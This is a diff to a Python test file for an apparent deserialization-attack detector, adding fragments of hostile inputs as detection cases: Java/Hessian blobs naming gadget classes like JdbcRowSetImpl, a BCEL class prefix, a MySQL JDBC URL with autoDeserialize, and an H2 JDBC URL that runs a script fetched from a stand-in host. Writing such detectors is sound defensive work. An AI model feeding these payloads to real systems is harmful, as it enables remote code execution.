@@ -69,6 +69,13 @@ def test_the_walk_follows_what_pickle_writes(value, protocol: int) -> None:
     [
         ("LG-DESER-001", base64.b64encode(b"\xac\xed\x00\x05sr\x00\x0ccom.acme.Foo").decode()),
         ("LG-DESER-001", base64.b64encode(gzip.compress(b"\xac\xed\x00\x05sr\x00\x0ccom.acme.Foo", mtime=0)).decode()),
+        ("LG-DESER-001", base64.b64encode(b"H\x02\x00C\x1dcom.sun.rowset.JdbcRowSetImpl\x91").decode()),
+        ("LG-DESER-001", base64.b64encode(b"c\x02\x00m\x00\x03runMt\x00\x1dcom.sun.rowset.JdbcRowSetImplz").decode()),
+        ("LG-DESER-001", "Mt\x00\x18sun.swing.SwingLazyValueS\x00\x01az"),
+        ("LG-DESER-001", base64.b64encode(b"\x00\x03\x00\x00\x00\x01\x00\x04null\n\x13;com.sun.rowset.JdbcRowSetImpl").decode()),
+        ("LG-DESER-001", "$$BCEL$$$l$8b$I$A$A"),
+        ("LG-DESER-001", "jdbc:mysql://e.example/a?autoDeserialize=true"),
+        ("LG-DESER-001", "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://e.example/a.sql'"),
         ("LG-DESER-002", 'x";O:+9:"App\\Model":0:{}'),
         ("LG-DESER-003", base64.b64encode(b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00").decode()),
         ("LG-DESER-005", "a: !!python/name:os.system"),
@@ -98,6 +105,9 @@ def test_a_gadget_class_as_a_value_is_known_by_its_key() -> None:
         "cos\nsin\ntan\n",
         "ios\nandroid\n",
         "The time is a:1 or O:2",
+        base64.b64encode(b"H\x02\x00C\x0ecom.acme.Order\x91").decode(),
+        "jdbc:h2:mem:test;INIT=CREATE SCHEMA IF NOT EXISTS shop",
+        "jdbc:postgresql:///shop?socketFactory=com.google.cloud.sql.postgres.SocketFactory",
     ],
 )
 def test_other_data_passes(text: str) -> None:
